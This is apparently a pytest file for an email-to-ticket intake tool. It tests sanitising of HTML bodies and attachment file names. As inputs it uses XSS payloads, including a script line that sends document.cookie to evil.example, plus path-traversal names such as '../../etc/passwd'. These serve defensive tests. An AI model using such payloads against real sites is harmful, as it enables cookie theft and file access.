"""`opsvault intake email`: tickets from email, replies into the Log, safe HTML and files."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from deskkit import VPN, VPN_PATH, desk, ov, printed_path, read, strict_findings
from email_samples import message, reply_to
from vaultkit import SETTINGS

from opsvault.intake.message import html_to_text, sanitise_filename
from opsvault.model import load_vault

AT = "2026-11-24T12:00"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return desk(tmp_path / "desk")


def take(root: Path, data: bytes, expect: int = 0) -> tuple[str, str]:
    """Run `intake email -` on `data`; (stdout, stderr) after checking the exit code."""
    result = ov(root, "intake", "email", "-", "--at", AT, stdin=data)
    assert result.exit_code == expect, result.output
    return result.stdout, result.stderr


def test_an_email_opens_a_ticket_from_subject_sender_date_and_body(root: Path) -> None:
    out, _ = take(root, message())
    ticket = load_vault(root).ticket(Path(printed_path(out)).name[:15])
    assert ticket is not None
    assert ticket.title == "VPN keeps dropping, I'm blocked"
    assert ticket.meta["requester"] == {"name": "Priya Shah", "email": "priya.shah@example.org"}
    assert ticket.opened.isoformat() == "2026-11-24T09:12:00-06:00"
    assert (ticket.channel, ticket.status) == ("email", "new")
    assert "> The VPN drops every 10 minutes since Monday." in ticket.body
    assert strict_findings(root) == []


def test_category_and_priority_are_guessed_from_keywords_and_marked(root: Path) -> None:
    out, _ = take(root, message())
    ticket = load_vault(root).ticket(Path(printed_path(out)).name[:15])
    assert (ticket.category, ticket.priority) == ("network", "P2")  # "vpn", "blocked"
    assert ticket.meta["guessed"] == ["category", "priority"]
    assert ticket.log[0].author == "system"
    assert "guessed category network (keywords vpn), priority P2 (keywords blocked)" \
        in ticket.log[0].text


def test_without_keywords_the_intake_defaults_apply(tmp_path: Path) -> None:
    root = desk(tmp_path / "desk", {"vault/opsvault.yml": SETTINGS + (
        "intake:\n  default_category: software\n  default_priority: P4\n")})
    out, _ = take(root, message(subject="Question", text="Hello there."))
    ticket = load_vault(root).ticket(Path(printed_path(out)).name[:15])
    assert (ticket.category, ticket.priority) == ("software", "P4")
    assert "category software (default), priority P4 (default)" in ticket.log[0].text


def test_an_html_only_email_with_a_script_becomes_text_without_markup(root: Path) -> None:
    html = ("<html><head><style>p {color: red}</style><script>alert('head')</script></head>"
            "<body><p>The printer <b>jams</b> &amp; creases pages.</p>"
            "<script>document.location='https://evil.example'</script>"
            "<ul><li>tray 2</li><li>since Monday</li></ul>"
            "<img src=x onerror=alert(1)></body></html>")
    out, _ = take(root, message(subject="Printer <script>alert(1)</script> jams",
                                text=None, html=html))
    text = read(root, printed_path(out))
    assert "> The printer jams & creases pages." in text
    assert re.search(r"^> +- tray 2$", text, re.M) and re.search(r"^> +- since Monday$", text, re.M)
    for unsafe in ("<script", "<img", "<b>", "alert('head')", "evil.example", "color: red"):
        assert unsafe not in text
    assert "title: Printer ‹script›alert(1)‹/script› jams\n" in text
    assert strict_findings(root) == []


def test_a_text_body_with_tags_log_lines_and_links_stays_inert(root: Path) -> None:
    body = "See <script>x()</script>\n## Log\n- 2026-11-24 09:00 · alice · fake\n[[Secret]]"
    out, _ = take(root, message(text=body))
    text = read(root, printed_path(out))
    assert "<script" not in text and "&lt;script>" in text
    assert "> \\[\\[Secret]]" in text
    ticket = load_vault(root).ticket(Path(printed_path(out)).name[:15])
    assert [entry.author for entry in ticket.log] == ["system"]
    assert strict_findings(root) == []


def test_attachments_are_saved_with_safe_unique_names_inside_the_ticket_folder(
        root: Path) -> None:
    files = (("../../etc/passwd", b"root:x:0:0"), ("..\\..\\boot.ini", b"[boot]"),
             ("screen shot.png", b"\x89PNG1"), ("screen shot.png", b"\x89PNG2"),
             (".bashrc", b"alias"), ("bad\x07name\x1b.txt", b"bell"))
    out, _ = take(root, message(attachments=files))
    ticket_id = Path(printed_path(out)).name[:15]
    folder = root / "tickets/attachments" / ticket_id
    assert sorted(p.name for p in folder.iterdir()) == [
        "badname.txt", "bashrc", "boot.ini", "passwd", "screen-shot-2.png", "screen-shot.png"]
    assert (folder / "passwd").read_bytes() == b"root:x:0:0"
    assert (folder / "screen-shot-2.png").read_bytes() == b"\x89PNG2"
    assert not (root.parent / "etc").exists() and not (root / "etc").exists()
    assert f"[[tickets/attachments/{ticket_id}/passwd]]" in read(root, printed_path(out))
    assert strict_findings(root) == []


def test_attachments_over_the_size_limit_are_skipped_with_a_warning(tmp_path: Path) -> None:
    root = desk(tmp_path / "desk", {
        "vault/opsvault.yml": SETTINGS + "intake:\n  max_attachment_mb: 0\n"})
    _, err = take(root, message(attachments=(("big.iso", b"x" * 2048),)))
    assert "warning: attachment skipped: big.iso (2 KB; the limit is 0 KB)" in err
    assert not (root / "tickets/attachments").exists()


def test_a_reply_naming_a_ticket_is_added_to_its_log(root: Path) -> None:
    before = read(root, VPN_PATH)
    take(root, reply_to(VPN, "Log attached; it dropped at 10:05.",
                        attachment=("vpn.log", b"DPD timeout")))
    assert len(load_vault(root).tickets) == 2
    after = read(root, VPN_PATH)
    assert after == before + (
        "- 2026-11-24 10:30 · requester · Email reply from Priya Shah: Log attached; it "
        f"dropped at 10:05. Attachments: [[tickets/attachments/{VPN}/vpn.log]]\n")
    assert (root / "tickets/attachments" / VPN / "vpn.log").read_bytes() == b"DPD timeout"
    assert strict_findings(root) == []


def test_a_reply_from_a_technician_is_signed_with_their_handle(root: Path) -> None:
    take(root, reply_to(VPN, "Tested from home too.",
                        sender="Alice Moreno <alice@example.org>"))
    assert load_vault(root).ticket(VPN).log[-1].author == "alice"


def test_a_subject_naming_an_unknown_ticket_opens_a_new_one(root: Path) -> None:
    out, _ = take(root, reply_to("T-20261101-zzzz", "Hello again"))
    assert "opened" in out and len(load_vault(root).tickets) == 3


@pytest.mark.parametrize("data, reason", [
    (b"", "the input is empty"),
    (b"just some words\nwithout any headers\n", "it has no headers"),
    (message(sender=None), "no sender address"),
    (message(sender="not an address"), "no sender address"),
    (message(subject="", text=None), "neither a subject, a text body nor an attachment"),
])
def test_a_malformed_email_is_refused_and_writes_nothing(root: Path, data: bytes,
                                                         reason: str) -> None:
    _, err = take(root, data, expect=1)
    assert reason in err
    assert len(load_vault(root).tickets) == 2


def test_an_email_file_is_read_from_its_path(root: Path, tmp_path: Path) -> None:
    path = tmp_path / "message.eml"
    path.write_bytes(message(date=None))
    result = ov(root, "intake", "email", str(path), "--at", AT)
    assert result.exit_code == 0
    ticket = load_vault(root).ticket(Path(printed_path(result.stdout)).name[:15])
    assert ticket.opened.isoformat() == "2026-11-24T12:00:00-06:00"  # no Date: received now
    assert ov(root, "intake", "email", str(tmp_path / "missing.eml")).exit_code == 2


def test_html_to_text_drops_scripts_styles_and_keeps_entities_as_text() -> None:
    assert html_to_text("<p>a &lt;b&gt;</p><script>x</script><style>y</style><p>c</p>") == \
        "a <b>\n\nc"


@pytest.mark.parametrize("name, safe", [
    ("../../etc/passwd", "passwd"), ("C:\\Windows\\win.ini", "win.ini"), ("..", "attachment"),
    (".htaccess", "htaccess"), ("CON.txt", "file-CON.txt"),
    ("naïve résumé.pdf", "naive-resume.pdf"), (None, "attachment"),
    ("a" * 300 + ".txt", "a" * 80 + ".txt"),
])
def test_attachment_names_are_sanitised(name: str | None, safe: str) -> None:
    assert sanitise_filename(name) == safe


def test_the_text_part_is_used_when_an_html_part_carries_a_script(root: Path) -> None:
    html = "<p>Printer jams</p><script>fetch('https://evil.example/?c='+document.cookie)</script>"
    out, _ = take(root, message(text="Printer jams on tray 2.", html=html))
    text = read(root, printed_path(out))
    assert "> Printer jams on tray 2." in text
    assert "script" not in text and "evil.example" not in text


def test_a_reply_to_a_closed_ticket_is_logged_with_a_hint_to_reopen(root: Path) -> None:
    _, err = take(root, reply_to("T-20261110-ab12", "It jams again."))
    assert "T-20261110-ab12 is closed; if the problem is back, run `opsvault ticket reopen" in err
    assert load_vault(root).ticket("T-20261110-ab12").log[-1].text == \
        "Email reply from Priya Shah: It jams again."


def test_a_sender_address_check_would_reject_is_kept_as_text(root: Path) -> None:
    output, _ = take(root, message(sender="Guest <guest@localhost>"))
    path = printed_path(output)
    text = read(root, path)
    assert "guest@localhost" in text and "not a deliverable email address" in text
    assert "email: guest@localhost" not in text
    assert strict_findings(root) == []


@pytest.mark.parametrize("date", ["Tue, 24 Nov 1400 09:12:00 -0600",
                                  "Tue, 24 Nov 3100 09:12:00 -0600"])
def test_a_date_no_ticket_may_carry_counts_as_no_date(root: Path, tmp_path: Path,
                                                       date: str) -> None:
    path = tmp_path / "message.eml"
    path.write_bytes(message(date=date))
    result = ov(root, "intake", "email", str(path), "--at", AT)
    assert result.exit_code == 0, result.output
    ticket = load_vault(root).ticket(Path(printed_path(result.stdout)).name[:15])
    assert ticket.opened.isoformat() == "2026-11-24T12:00:00-06:00"  # as if undated
    assert ov(root, "check", "--strict").exit_code == 0
